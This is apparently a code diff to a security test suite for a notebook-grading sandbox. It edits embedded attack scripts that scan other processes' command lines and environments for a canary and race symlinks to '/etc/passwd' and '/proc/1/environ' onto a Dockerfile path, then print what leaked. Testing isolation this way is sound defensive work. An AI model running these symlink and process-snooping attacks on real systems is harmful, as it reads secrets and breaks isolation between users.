@@ -48,17 +48,17 @@ WATCH = '''
 import glob, os, time
 os.chdir("/")
 found, end = set(), time.monotonic() + 25
-marker, folder = ("hidden" + "-canary").encode(), ("/home/student/" + "check").encode()
+marker, folder = ("hidden" + "-canary").encode(), b"@CHECK@"
 while time.monotonic() < end:
     own = f"/proc/{os.getpid()}/"
-    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/home/student/check/*") + glob.glob("/tmp/*"):
+    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("@CHECK@/*") + glob.glob("/tmp/*"):
         try:
             data = open(path, "rb").read(100000)
         except OSError:
             continue
         if (marker in data or folder in data) and not path.startswith(own):
             found.add(path)
-    open("/home/student/found.txt", "w").write("\\n".join(found))
+    open(os.path.expanduser("~/found.txt"), "w").write("\\n".join(found))
     time.sleep(0.02)
 '''
 subprocess.Popen([sys.executable, "-c", WATCH], start_new_session=True)
@@ -89,12 +89,12 @@ SWAPPER = r"""
 import subprocess, sys
 SWAP = '''
 import os, time
-other = "/home/student/work/other"
+other = "@WORK@/other"
 end = time.monotonic() + 30
 while time.monotonic() < end:
     for target in ("/etc/passwd", "/proc/1/environ", "/template/complete"):
         os.symlink(target, other)
-        os.replace(other, "/home/student/work/Dockerfile")
+        os.replace(other, "@WORK@/Dockerfile")
 '''
 subprocess.Popen([sys.executable, "-c", SWAP], start_new_session=True)
 """
@@ -103,7 +103,7 @@ subprocess.Popen([sys.executable, "-c", SWAP], start_new_session=True)
 def _with_a_last_look(notebook: dict[str, object]) -> None:
     from .attack import code_cell
 
-    look = "found = open('/home/student/found.txt').read()\nprint('SUCCEEDED ' + found if found else 'nothing found')"
+    look = "import os\nfound = open(os.path.expanduser('~/found.txt')).read()\nprint('SUCCEEDED ' + found if found else 'nothing found')"
     notebook["cells"].append(code_cell(look))  # type: ignore[attr-defined]
 
 
